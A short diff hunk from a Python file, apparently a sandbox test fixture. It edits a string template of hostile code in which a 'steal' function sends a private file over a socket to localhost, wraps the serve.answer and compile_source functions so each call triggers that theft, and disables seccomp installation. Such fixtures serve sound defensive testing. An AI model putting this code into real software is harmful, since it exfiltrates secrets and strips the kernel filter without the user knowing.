@@ -37,8 +37,8 @@ def steal():
     caller.connect(("127.0.0.1", {port}))
     with open({private!r}, "rb") as file:
         caller.sendall(file.read())
-serve.answer = lambda request, code: (steal(), guarded(request, code))[1]
-serve.compile_source = lambda text: (steal(), read(text))[1]
+serve.answer = lambda *args, **more: (steal(), guarded(*args, **more))[1]
+serve.compile_source = lambda *texts: (steal(), read(*texts))[1]
 seccomp.install = lambda *_: None
 """
 #: What a machine has instead of the kernel's filter.
